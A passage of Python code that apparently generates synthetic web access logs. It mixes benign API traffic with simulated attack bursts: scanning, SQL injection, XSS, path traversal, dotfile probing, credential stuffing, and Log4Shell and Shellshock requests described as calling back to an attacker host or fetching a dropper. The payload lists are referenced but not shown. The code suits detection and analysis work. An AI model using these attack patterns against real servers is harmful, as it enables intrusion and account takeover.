                        f"GET /api/v1/feed/products?page={page}&per_page=500 HTTP/1.1",
                        200,
                        integer(rng, 200_000, 420_000),
                        "-",
                        ua,
                        "api.example.com:443",
                    ),
                )
            )
            at += between(rng, 0.5, 2.5)
        return events

    # -- attack episodes ---------------------------------------------------------------------
    def attack(self, t: float) -> list[Event]:
        return self.attack_kind()()

    def _burst(
        self, requests: list[tuple[str, str, int, int, str, str]], ip: str, gap: tuple[float, float]
    ) -> list[Event]:
        rng = self.rng
        events, at = [], 0.0
        for method, target, status, size, referrer, agent in requests:
            events.append((at, self.hostile(ip, method, target, status, size, referrer, agent)))
            at += between(rng, *gap)
        return events

    def _body(self, status: int) -> int:
        """Bytes of a response: a page for 200, the custom 404 page, nginx's stock error pages."""
        if status == 200:
            return integer(self.rng, 9_000, 36_000)
        return 10_512 if status == 404 else HTTP_REASONS_SIZES[status]

    def _scanner(self) -> list[Event]:
        """Directory brute force / vulnerability scanner: a 404 burst."""
        rng = self.rng
        ip, ua = self.attacker(), self.scanner_ua()
        paths = rng.sample(PROBE_PATHS, integer(rng, 12, len(PROBE_PATHS)))
        requests = []
        for n, path in enumerate(paths):
            status = (
                403
                if path.startswith("/.git") or path.startswith("/.ht")
                else 401
                if path == "/administrator/"
                else 404
            )
            requests.append(
                (
                    "GET",
                    path,
                    status,
                    HTTP_REASONS_SIZES[status] if status != 404 else 10_512,
                    "-",
                    ua.replace("{test}", f"{n + 1:06d}"),
                )
            )
        if rng.random() < 0.3:
            requests.append(("POST", "/xmlrpc.php", 404, 10_512, "-", ua.replace("{test}", "000999")))
        return self._burst(requests, ip, (0.03, 0.6))

    def _sqli(self) -> list[Event]:
        rng = self.rng
        ip = self.attacker()
        ua = SQLMAP_UA if rng.random() < 0.6 else OLD_BROWSER_UA
        base = rng_choice(rng, SQLI_TARGETS)
        requests = []
        for _ in range(integer(rng, 8, 40)):
            status = rng_choice(rng, [200, 200, 500, 400, 403])
            requests.append(("GET", base + rng_choice(rng, SQLI), status, self._body(status), "-", ua))
        return self._burst(requests, ip, (0.2, 2.0))

    def _xss(self) -> list[Event]:
        rng = self.rng
        ip, ua = (
            self.attacker(),
            rng_choice(rng, [OLD_BROWSER_UA, "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0"]),
        )
        requests = []
        for _ in range(integer(rng, 5, 20)):
            payload = rng_choice(rng, XSS)
            referrer = f"https://www.example.com/search?q={payload}" if rng.random() < 0.2 else "-"
            status = rng_choice(rng, [200, 200, 400])
            requests.append(("GET", rng_choice(rng, XSS_TARGETS) + payload, status, self._body(status), referrer, ua))
        return self._burst(requests, ip, (0.5, 4.0))

    def _traversal(self) -> list[Event]:
        rng = self.rng
        ip, ua = self.attacker(), rng_choice(rng, ["curl/7.88.1", OLD_BROWSER_UA, "Go-http-client/1.1"])
        requests = []
        for _ in range(integer(rng, 4, 18)):
            status = rng_choice(rng, [400, 404, 403])
            requests.append(("GET", rng_choice(rng, TRAVERSAL), status, self._body(status), "-", ua))
        return self._burst(requests, ip, (0.1, 2.0))

    def _dotfiles(self) -> list[Event]:
        rng = self.rng
        ip, ua = (
            self.attacker(),
            rng_choice(rng, ["python-requests/2.31.0", OLD_BROWSER_UA, "curl/8.5.0", "Go-http-client/1.1"]),
        )
        paths = rng.sample(DOTFILE_PATHS, integer(rng, 3, len(DOTFILE_PATHS)))
        requests = [
            ("GET", p, 403 if p.startswith("/.git") else 404, 146 if p.startswith("/.git") else 10_512, "-", ua)
            for p in paths
        ]
        return self._burst(requests, ip, (0.05, 1.0))

    def _log4shell(self) -> list[Event]:
        """JNDI lookups in headers and parameters, calling back to the attacker's LDAP/RMI server."""
        rng = self.rng
        ip, callback = self.attacker(), self.attacker()
        requests = []
        for _ in range(integer(rng, 1, 6)):
            payload = rng_choice(rng, LOG4SHELL).format(cb=callback)
            where = rng.random()
            if where < 0.5:
                requests.append(("GET", "/", 200, integer(rng, 38_000, 44_000), "-", payload))
            elif where < 0.75:
                requests.append(("GET", "/?x=" + payload, 200, integer(rng, 38_000, 44_000), payload, payload))
            else:
                requests.append(("POST", "/api/v1/auth/login", 400, 88, payload, payload))
        return self._burst(requests, ip, (0.1, 1.5))

    def _shellshock(self) -> list[Event]:
        """CVE-2014-6271 in the User-Agent against CGI paths, fetching a dropper from the attacker."""
        rng = self.rng
        ip, callback = self.attacker(), self.attacker()
        requests = [
            (
                "GET",
                rng_choice(rng, CGI_TARGETS),
                404,
                10_512,
                "-",
                rng_choice(rng, SHELLSHOCK).replace("{cb}", callback),
            )
            for _ in range(integer(rng, 1, 4))
        ]
        return self._burst(requests, ip, (0.2, 2.0))

    def _stuffing(self) -> list[Event]:
        """Credential stuffing against the login form or the API: mostly failures, a rare hit."""
        rng = self.rng
        ip, ua = self.attacker(), rng_choice(rng, STUFFING_UAS)
        form = rng.random() < 0.5
        requests = []
        for n in range(integer(rng, 15, 80)):
            hit = rng.random() < 0.03
            if form:
                status, size = (302, 0) if hit else (200, integer(rng, 9400, 9700))
                requests.append(("POST", "/login", status, size, "https://www.example.com/login", ua))
            else:
                status = 200 if hit else 429 if n > 40 and rng.random() < 0.5 else 401
                requests.append(("POST", "/api/v1/auth/login", status, 740 if hit else 61, "-", ua))
        return self._burst(requests, ip, (0.3, 3.0))
